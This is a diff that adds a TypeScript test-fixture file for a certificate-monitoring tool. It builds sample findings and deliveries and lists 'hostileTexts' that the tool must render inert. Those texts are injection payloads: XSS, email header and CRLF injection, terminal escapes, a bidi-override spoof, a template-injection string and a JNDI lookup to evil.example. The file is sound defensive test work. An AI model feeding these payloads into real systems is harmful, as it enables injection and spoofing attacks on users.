@@ -1,0 +1,81 @@
+import { pino } from 'pino';
+import type { Delivery } from '../../src/model/delivery.js';
+import type { Finding } from '../../src/model/finding.js';
+
+/** A logger that says nothing. */
+export const quiet = pino({ level: 'silent' });
+
+/** A finding with sensible parts. */
+export function finding(parts: Partial<Finding> = {}): Finding {
+  return {
+    id: 'f'.repeat(32),
+    rule: 'expired',
+    severity: 'critical',
+    title: 'Certificate has expired',
+    subject: { kind: 'endpoint', key: 'www.example.com|192.0.2.1|443|www.example.com|' },
+    details: { notAfter: '2026-11-01T00:00:00.000Z', daysOver: 22 },
+    host: 'www.example.com',
+    certificateSha256: 'a'.repeat(64),
+    state: 'open',
+    revision: 1,
+    openedAt: new Date('2026-11-23T10:00:00Z'),
+    lastSeenAt: new Date('2026-11-23T12:00:00Z'),
+    resolvedAt: null,
+    changedBy: 'certglass',
+    note: null,
+    ...parts,
+  };
+}
+
+/** `count` different findings, of three rules and all severities. */
+export function findings(count: number): Finding[] {
+  const kinds = [
+    ['expired', 'critical'],
+    ['expiring', 'warning'],
+    ['weak-key', 'error'],
+  ] as const;
+  return Array.from({ length: count }, (_, n) => {
+    const [rule, severity] = kinds[n % 3]!;
+    return finding({ id: n.toString(16).padStart(32, '0'), rule, severity, host: `host-${n}.example.com` });
+  });
+}
+
+/** The delivery of these findings. */
+export function delivery(of: readonly Finding[], parts: Partial<Delivery> = {}): Delivery {
+  return {
+    id: 'd'.repeat(32),
+    channel: 'test',
+    items: of.map(({ id, revision }) => ({ findingId: id, revision })),
+    state: 'pending',
+    attempts: 0,
+    createdAt: new Date('2026-11-23T12:00:00Z'),
+    nextAttemptAt: null,
+    sentAt: null,
+    lastDetail: null,
+    ...parts,
+  };
+}
+
+/** Texts a certificate may bring that must be inert wherever they are shown. */
+export const hostileTexts = [
+  '<script>alert(1)</script>',
+  '"><img src=x onerror=alert(1)>',
+  "' onmouseover='alert(1)",
+  'a\r\nBcc: thief@evil.example',
+  'a\nSubject: forged',
+  'a\r\n\r\n<b>body</b>',
+  'x\0y.example.com',
+  '\u001b[2J\u001b[31mred',
+  '\u009b31m',
+  '\u202Emoc.elpmaxe',
+  'pay\u200Bpal.example',
+  'a\u2028b\u2029c',
+  '=1+1',
+  '\uD800',
+  '&lt;script&gt;',
+  '{{constructor.constructor("alert(1)")()}}',
+  '${jndi:ldap://evil.example/}',
+  '</td></tr></table><h1>forged</h1>',
+  'x'.repeat(100_000),
+  '\u0007'.repeat(5_000),
+] as const;
